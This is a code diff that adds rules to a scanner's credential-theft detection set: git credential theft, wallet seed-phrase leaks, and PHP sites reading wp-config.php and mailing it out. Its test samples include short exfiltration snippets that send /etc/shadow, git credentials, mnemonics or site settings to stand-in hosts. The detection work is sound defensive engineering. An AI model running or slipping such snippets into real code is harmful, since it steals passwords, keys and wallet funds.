@@ -14,6 +14,7 @@ import {
   js,
   near,
   path,
+  php,
   ps,
   py,
   type RuleSet,
@@ -377,6 +378,7 @@ export const credentialTheft: RuleSet = {
             /curl\b[^\n]{0,160}?\s(?:-d|-F|-T|--data\S*|--form|--upload-file|-X\s*POST)|wget\b[^\n]{0,160}?--post/,
             { after: 260 },
           ),
+          is(['urlopen('], /urlopen\([^\n]{0,100}?data\s?=/),
           is(
             [
               'requests.post',
@@ -512,6 +514,74 @@ export const credentialTheft: RuleSet = {
         py("d = open('/etc/shadow').read()\nrequests.post('https://x.example.invalid', data=d)"),
       ],
       misses: [sh('chmod 640 /etc/shadow'), sh('getent passwd | cut -d: -f1')],
+    },
+    {
+      id: id('git-credential'),
+      severity: 'high',
+      why: 'Asks git for stored credentials, or searches its settings for them, and sends them away.',
+      when: near(
+        12,
+        is(['credential', '.git/config'], /(?<=git["',\s]{1,4})credential["',\s]{1,4}fill|\.git\/config/),
+        is(['credential', '@github.com', '@gitlab.com', 'oauth', 'token'], null),
+        posts,
+        any('exec', 'read', is(['read_text', 'glob'], null)),
+      ),
+      matches: [
+        py(
+          "out = subprocess.run(['git', 'credential', 'fill'], input=q, capture_output=True)\nrequests.post('https://x.example.invalid', data=out.stdout)",
+        ),
+      ],
+      misses: [
+        py(
+          "out = subprocess.run(['git', 'credential', 'fill'], input=q, capture_output=True)\nreturn parse(out.stdout)",
+        ),
+      ],
+    },
+    {
+      id: id('seed-phrase'),
+      severity: 'high',
+      why: "Sends a wallet's seed phrase or private key over the network.",
+      when: statement(
+        posts,
+        is(
+          [
+            'mnemonic',
+            'seedphrase',
+            'seed_phrase',
+            'recoveryphrase',
+            'wallet.privatekey',
+            'keypair.secretkey',
+            'secretphrase',
+          ],
+          null,
+        ),
+        is(['http://', 'https://', 'url', 'webhook', 'telegram'], null),
+      ),
+      matches: [js("axios.post('https://x.example.invalid/w', { m: mnemonic, k: wallet.privateKey })")],
+      misses: [
+        js(
+          "const wallet = Wallet.fromPhrase(mnemonic)\naxios.post('https://api.example.org/v1', { address: wallet.address })",
+        ),
+      ],
+    },
+    {
+      id: id('site-settings'),
+      severity: 'high',
+      why: "Reads a site's settings, with its database password, and sends them away.",
+      when: inside(
+        ['php'],
+        near(
+          6,
+          is(['wp-config.php', 'configuration.php', '/.env', 'settings.inc.php', 'local.xml'], null),
+          is(['file_get_contents', 'readfile', 'fopen', 'file('], null),
+          is(
+            ['mail', 'curl_exec', 'fsockopen', 'api.telegram.org', 'webhooks'],
+            /(?<![\w>])mail\s{0,2}\(|curl_exec|fsockopen|api\.telegram\.org|webhooks/,
+          ),
+        ),
+      ),
+      matches: [php("<?php $c = file_get_contents('../wp-config.php');\nmail('a@example.invalid', 'x', $c);")],
+      misses: [php("<?php require 'wp-config.php';\nmail($to, $subject, $text);")],
     },
     {
       id: id('page-cookies'),
